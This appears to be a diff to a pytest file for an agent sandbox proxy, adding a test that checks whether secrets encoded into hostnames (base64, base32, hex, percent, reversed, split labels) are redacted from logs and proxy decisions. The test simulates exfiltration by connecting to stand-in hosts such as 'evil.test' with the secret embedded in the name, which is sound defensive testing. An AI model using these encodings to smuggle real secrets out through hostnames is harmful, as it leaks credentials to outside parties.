@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import base64
 import logging
 import os
 import socket
@@ -11,6 +12,9 @@ from contextlib import suppress
 
 import pytest
 from proxied_world import Make, worlds
+
+from adk_skills_agent.sandbox.secret_forms import SecretForms
+from adk_skills_agent.sandbox.secrets import Secret
 
 
 @pytest.fixture
@@ -151,7 +155,7 @@ async def test_a_secret_put_into_a_name_reaches_neither_the_log_nor_the_decision
     make: Make, caplog: pytest.LogCaptureFixture
 ) -> None:
     caplog.set_level(logging.DEBUG)
-    world = make(redact=lambda text: text.replace("hunter2", "[secret KEY]"))
+    world = make(redact=SecretForms([("KEY", Secret("hunter2"))]).host_name)
     world.names.addresses.clear()
     await world.connect("hunter2.evil.test:443")
     await world.connect(f"hunter2.wild.example:{world.server.port}")
@@ -160,6 +164,41 @@ async def test_a_secret_put_into_a_name_reaches_neither_the_log_nor_the_decision
         "[secret KEY].wild.example",
     ]
     assert "hunter2" not in caplog.text
+
+
+@pytest.mark.parametrize("secret", ["Tr0ub4dor-Zebra9", "sk_LIVE_51Hx9aQ7bZ2mN8vK4cR6tY1uW3eP5o"])
+async def test_an_encoded_secret_in_a_name_is_seen_too(
+    make: Make, caplog: pytest.LogCaptureFixture, secret: str
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    forms = SecretForms([("KEY", Secret(secret))])
+    world = make(redact=forms.host_name)
+    world.names.addresses.clear()
+    raw = secret.encode()
+    written = {
+        "mixed case": "".join(c.upper() if n % 2 else c.lower() for n, c in enumerate(secret)),
+        "reversed": secret[::-1],
+        "percent": "".join(f"%{byte:02x}" for byte in raw),
+        "base64": base64.b64encode(raw).decode(),
+        "base64 of more": base64.urlsafe_b64encode(b"x" + raw + b"yz").decode().rstrip("="),
+        "base32": base64.b32encode(raw).decode().rstrip("="),
+        "hex": raw.hex(),
+        "labels of six": ".".join(raw.hex()[at : at + 6] for at in range(0, len(raw) * 2, 6)),
+        "dots": ".".join(secret[at : at + 3] for at in range(0, len(secret), 3)),
+    }
+    for form in written.values():
+        for target in (
+            f"{form}.evil.test:443",
+            f"x.{form}.wild.example:{world.server.port}",
+            f"u:{form}@evil.test:443",
+        ):
+            await world.connect(target)
+            await world.ask(f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+    told = caplog.text.lower() + repr(world.proxy.decisions).lower()
+    for name, form in written.items():
+        assert form.lower().strip("=") not in told, name
+        assert form.lower().replace(".", "") not in told.replace(".", ""), name
+    assert "[secret key]" in told
 
 
 async def test_stopping_ends_connections_in_every_state(make: Make) -> None:
